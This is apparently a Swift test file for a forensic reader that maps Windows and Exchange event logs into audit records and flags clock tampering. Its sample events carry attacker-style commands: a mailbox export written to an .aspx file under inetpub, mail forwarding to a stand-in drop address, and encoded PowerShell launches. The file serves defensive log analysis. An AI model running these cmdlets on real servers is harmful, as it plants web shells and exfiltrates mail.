import Records
import Testing

@testable import Readers

@Suite("Windows events as audit records")
struct MappingTests {
  /// The 27 values of an Exchange cmdlet event.
  static func cmdlet(
    _ name: String, _ parameters: String, id: Int = 1, recordID: UInt64 = 1
  ) -> SampleEvent {
    var slots = [String](repeating: "", count: 27)
    slots[0] = name
    slots[1] = parameters
    slots[2] = "corp.example/Users/Eva Lind"
    slots[3] = "S-1-5-21-1-2-3-1105"
    slots[5] = "Remote-ManagementShell-Unknown"
    slots[6] = "5668 w3wp#MSExchangePowerShellAppPool"
    slots[26] = "en-US"
    return SampleEvent(id: id, recordID: recordID, data: .positional(slots))
  }

  private func only(_ event: SampleEvent) async throws -> AuditRecord {
    let reading = try await Reading([event])
    #expect(reading.defects.isEmpty)
    return try #require(reading.records.first)
  }

  @Test(
    "an Exchange cmdlet has its name, caller, target and parameters, whether it worked, and its place",
    arguments: [false, true])
  func exchangeCmdlet(isPlain: Bool) async throws {
    var event = Self.cmdlet(
      "New-MailboxExportRequest", #"-Mailbox "eva.lind" -FilePath "\\EX01\c$\inetpub\x y.aspx""#, recordID: 3229)
    event.isPlain = isPlain
    let record = try await only(event)
    #expect(record.logKind == "windows_event_log")
    #expect(record.operation == "MSExchange CmdletLogs 1")
    #expect(record.recordType == 1)
    #expect(record.workload == "MSExchange Management")
    #expect(record.server == "EX01.corp.example")
    #expect(record.externalID == "MSExchange Management/EX01.corp.example/3229/1614754182123456")
    #expect(record.occurredAt == 1_614_754_182_123_456)
    #expect(record.timeBasis == .utc)
    #expect(record.actor == "corp.example/Users/Eva Lind")
    #expect(record.clientInfo == "Remote-ManagementShell-Unknown")
    #expect(record.target == "eva.lind")
    #expect(record.isSuccess == true)
    #expect(record.location.offset == 4096 + 512)
    #expect(
      record.cmdlet
        == Cmdlet(
          name: "New-MailboxExportRequest", caller: "corp.example/Users/Eva Lind", target: "eva.lind",
          parameters: [
            .init(name: "Mailbox", value: "eva.lind"), .init(name: "FilePath", value: #"\\EX01\c$\inetpub\x y.aspx"#),
          ]))
  }

  @Test("event 6 is a cmdlet that failed; forwarding has its plain address beside it, as in the unified audit log")
  func failed() async throws {
    let record = try await only(
      Self.cmdlet("Set-Mailbox", #"-Identity "eva" -ForwardingSmtpAddress "smtp:x@drop.example""#, id: 6))
    #expect(record.isSuccess == false)
    #expect(record.cmdlet?.parameters.map(\.value) == ["eva", "smtp:x@drop.example", "x@drop.example"])
  }

  @Test("fewer values than expected, and values that are no cmdlet, lose nothing")
  func otherLayouts() async throws {
    let short = try await only(SampleEvent(data: .positional(["Get-Mailbox"])))
    #expect(short.cmdlet?.name == "Get-Mailbox")
    #expect(short.actor == "S-1-5-18")
    let other = try await only(SampleEvent(data: .positional(["no cmdlet", "x"])))
    #expect(other.cmdlet?.name == "MSExchange CmdletLogs 1")
    #expect(other.cmdlet?.parameters.map(\.name) == ["Data", "Data", "Binary", "Level"])
  }

  @Test("an error of Unified Messaging keeps its text and its level")
  func unifiedMessaging() async throws {
    let record = try await only(
      SampleEvent(
        provider: "MSExchange Unified Messaging", id: 1003, channel: "Application", level: 2,
        data: .positional(["System.InvalidCastException: Unable to cast"])))
    #expect(record.operation == "MSExchange Unified Messaging 1003")
    #expect(record.parameter("Data") == "System.InvalidCastException: Unable to cast")
    #expect(record.parameter("Level") == "2")
  }

  @Test(
    "a logon has who, from where, how; a failed one says so",
    arguments: [(4624, UInt64(0x20), true), (4625, 0x10, false)])
  func logon(id: Int, audit: UInt64, isSuccess: Bool) async throws {
    let record = try await only(
      SampleEvent(
        provider: "Microsoft-Windows-Security-Auditing", id: id, channel: "Security", keywords: audit << 48, sid: nil,
        data: .named([
          ("SubjectUserName", "EX01$"), ("TargetUserName", "eva"), ("TargetDomainName", "CORP"),
          ("TargetLogonId", "0x1a2b"), ("LogonType", "3"), ("WorkstationName", "-"),
          ("IpAddress", "::ffff:203.0.113.77"), ("IpPort", "50123"),
        ])))
    #expect(record.actor == "CORP\\eva")
    #expect(record.logonType == "network")
    #expect(record.clientIP == "203.0.113.77")
    #expect(record.clientPort == 50123)
    #expect(record.sessionKey == "0x1a2b")
    #expect(record.clientInfo == nil)
    #expect(record.isSuccess == isSuccess)
    #expect(record.cmdlet == nil)
  }

  @Test("what a domain controller says of logons, and logoffs, have whose they are and from where")
  func domainController() async throws {
    func record(_ id: Int, _ data: [(String, String)]) async throws -> AuditRecord {
      try await only(
        SampleEvent(
          provider: "Microsoft-Windows-Security-Auditing", id: id, channel: "Security", keywords: 0x20 << 48, sid: nil,
          data: .named(data)))
    }
    let ntlm = try await record(4776, [("TargetUserName", "eva"), ("Workstation", "KALI"), ("Status", "0x0")])
    #expect(ntlm.actor == "eva" && ntlm.clientInfo == "KALI" && ntlm.isSuccess == true)
    let ticket = try await record(
      4769,
      [
        ("TargetUserName", "eva@CORP.EXAMPLE"), ("TargetDomainName", "CORP.EXAMPLE"), ("ServiceName", "EX01$"),
        ("IpAddress", "::ffff:203.0.113.77"), ("IpPort", "50123"),
      ])
    #expect(ticket.actor == "eva@CORP.EXAMPLE" && ticket.clientIP == "203.0.113.77" && ticket.clientPort == 50123)
    let logoff = try await record(
      4634, [("TargetUserName", "eva"), ("TargetDomainName", "CORP"), ("TargetLogonId", "0x1a2b"), ("LogonType", "3")])
    #expect(logoff.actor == "CORP\\eva" && logoff.sessionKey == "0x1a2b")
  }

  @Test("a logon with other credentials has both accounts, special privileges the one that got them")
  func explicitCredentials() async throws {
    let names = [
      ("SubjectUserName", "svc"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x3e7"), ("TargetUserName", "eva"),
      ("TargetDomainName", "CORP"), ("TargetServerName", "EX02"), ("IpAddress", "-"),
    ]
    let security = SampleEvent(
      provider: "Microsoft-Windows-Security-Auditing", id: 4648, channel: "Security", data: .named(names))
    let record = try await only(security)
    #expect(record.actor == "CORP\\svc")
    #expect(record.target == "CORP\\eva")
    #expect(record.clientIP == nil)
    #expect(record.parameter("TargetServerName") == "EX02")
    var special = security
    special.id = 4672
    #expect(try await only(special).actor == "CORP\\svc")
  }

  @Test("4103 gives the command and its parameters, quotes and lines in values kept")
  func pipelineExecution() async throws {
    let payload = """
      CommandInvocation(New-MailboxExportRequest): "New-MailboxExportRequest"\r
      ParameterBinding(New-MailboxExportRequest): name="Mailbox"; value="eva.lind"\r
      ParameterBinding(New-MailboxExportRequest): name="ContentFilter"; value="Subject -eq "a"
      or more"\r
      TerminatingError(New-MailboxExportRequest): "denied"\r\n
      """
    let context =
      "        Severity = Informational\r\n        Host Application = powershell.exe -nop\r\n"
      + "        Command Name = New-MailboxExportRequest\r\n        Script Name = \r\n        User = CORP\\eva\r\n"
    let record = try await only(
      SampleEvent(
        provider: "Microsoft-Windows-PowerShell", id: 4103, channel: "Microsoft-Windows-PowerShell/Operational",
        data: .named([("ContextInfo", context), ("UserData", ""), ("Payload", payload)])))
    #expect(record.actor == "CORP\\eva")
    #expect(record.clientInfo == "powershell.exe -nop")
    #expect(record.target == "eva.lind")
    #expect(record.isSuccess == false)
    #expect(record.cmdlet?.name == "New-MailboxExportRequest")
    #expect(record.cmdlet?.parameters.map(\.value) == ["eva.lind", "Subject -eq \"a\"\nor more"])
  }

  @Test("classic PowerShell events: the engine's host, and 800 with its command")
  func classic() async throws {
    let state =
      "\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n\tHostApplication=powershell -enc AAA=\r\n\tCommandLine="
    let start = try await only(
      SampleEvent(
        provider: "PowerShell", id: 400, channel: "Windows PowerShell",
        data: .positional(["Available", "None", state])))
    #expect(start.clientInfo == "powershell -enc AAA=")
    #expect(start.parameter("HostName") == "ConsoleHost")
    let details = "\tUserId=CORP\\eva\r\n\tHostApplication=powershell"
    let run = try await only(
      SampleEvent(
        provider: "PowerShell", id: 800, channel: "Windows PowerShell",
        data: .positional([
          "Get-Mailbox eva", details,
          "CommandInvocation(Get-Mailbox): \"Get-Mailbox\"\r\nParameterBinding(Get-Mailbox): name=\"Identity\"; value=\"eva\"",
        ])))
    #expect(run.actor == "CORP\\eva")
    #expect(run.cmdlet?.name == "Get-Mailbox")
    #expect(run.target == "eva")
  }

  /// FILETIME of a time in microseconds since 1970.
  private func fileTime(_ microseconds: Int64) -> [UInt8] { u64(UInt64(microseconds + 11_644_473_600_000_000) * 10) }

  private func clockSet(_ provider: String, _ id: Int, from: Int64, to: Int64) -> SampleEvent {
    let names =
      id == 4616
      ? ["SubjectUserName", "SubjectDomainName", "PreviousTime", "NewTime", "ProcessName"]
      : ["Reason", "ProcessID", "OldTime", "NewTime", "ProcessName"]
    let data = XML(
      name: "EventData",
      content: names.enumerated().map { place, name in
        .element(
          XML(
            name: "Data", attributes: [("Name", .text(name))],
            content: [.piece(.value(place, type: [2, 3].contains(place) ? 0x11 : 0x01))]))
      })
    let texts = id == 4616 ? ["eva", "CORP"] : ["1", "4711"]
    let values: [(type: UInt8, bytes: [UInt8])] =
      texts.map { (0x01, utf16($0)) } + [(0x11, fileTime(from)), (0x11, fileTime(to))]
      + [(0x01, utf16("C:\\Windows\\System32\\cmd.exe"))]
    return SampleEvent(
      provider: provider, id: id, channel: id == 4616 ? "Security" : "System",
      data: .template(data, values))
  }

  @Test("a clock that somebody set is told, with who and what; what the time service corrects every day is not")
  func clockSet() async throws {
    let day: Int64 = 86_400_000_000
    let time: Int64 = 1_614_754_182_000_000
    let forward = try await Reading([
      clockSet("Microsoft-Windows-Security-Auditing", 4616, from: time, to: time + 26 * day)
    ])
    #expect(
      forward.defects.map(\.problem) == [
        "the clock of EX01.corp.example was set forward by 26 d 0 h 0 min 0 s, by CORP\\eva with "
          + "C:\\Windows\\System32\\cmd.exe"
      ])
    #expect(forward.defects.first?.offset == forward.records.first?.location.offset)
    #expect(forward.records.first?.parameter("PreviousTime") == "2021-03-03T06:49:42.0000000Z")
    let back = try await Reading([clockSet("Microsoft-Windows-Kernel-General", 1, from: time, to: time - day)])
    #expect(
      back.defects.map(\.problem) == [
        "the clock of EX01.corp.example was set back by 1 d 0 h 0 min 0 s, by S-1-5-18 with "
          + "C:\\Windows\\System32\\cmd.exe"
      ])
    let daily = try await Reading([
      clockSet("Microsoft-Windows-Security-Auditing", 4616, from: time, to: time + 59_000_000)
    ])
    #expect(daily.defects.isEmpty && daily.records.count == 1)
  }

  @Test(
    "a busy log that leaps between records numbered without a gap tells it; one that says why, or lacks records, not")
  func busyLeap() async throws {
    func log(_ middle: SampleEvent?, firstID: UInt64) -> [UInt8] {
      func events(_ hours: Int) -> [SampleEvent] {
        (0..<150).map { place in
          var event = SampleEvent(provider: "Some-Provider", id: 77, recordID: UInt64(place))
          event.time += UInt64(hours * 3600 + place) * 10_000_000
          return event
        }
      }
      var log = LogBuilder()
      let before = events(0) + [middle].compactMap(\.self)
      log.chunks = [ChunkBuilder(before), ChunkBuilder(events(30), firstID: firstID)]
      return log.bytes()
    }
    #expect(
      try await Reading(log(nil, firstID: 151)).defects.map(\.problem) == [
        "the clock of EX01.corp.example leaps forward by 1 d 5 h 57 min 31 s; its 297 other steps from record to "
          + "record are of at most 0 d 0 h 0 min 1 s"
      ])
    #expect(try await Reading(log(nil, firstID: 200)).defects.isEmpty)
    var start = SampleEvent(provider: "EventLog", id: 6005, recordID: 150)
    start.time += 30 * 3600 * 10_000_000
    #expect(try await Reading(log(start, firstID: 152)).defects.isEmpty)
  }

  @Test("any other event is a record without parameters")
  func other() async throws {
    let record = try await only(
      SampleEvent(provider: "Some-Provider", id: 77, channel: "System", data: .named([("a", "b")])))
    #expect(record.operation == "Some-Provider 77")
    #expect(record.cmdlet == nil)
    #expect(record.isSuccess == nil)
  }

  @Test("copies of an event have one id and one payload, wherever their templates stand")
  func copies() async throws {
    let first = Self.cmdlet("Get-Mailbox", "-Identity \"a\"", recordID: 1)
    let second = Self.cmdlet("Get-Mailbox", "-Identity \"b\"", recordID: 2)
    let whole = try await Reading([first, second])
    let export = try await Reading([second])
    #expect(whole.records[1].externalID == export.records[0].externalID)
    #expect(whole.records[1].payloadSHA256 == export.records[0].payloadSHA256)
    #expect(whole.records[0].payloadSHA256 != whole.records[1].payloadSHA256)
  }
}
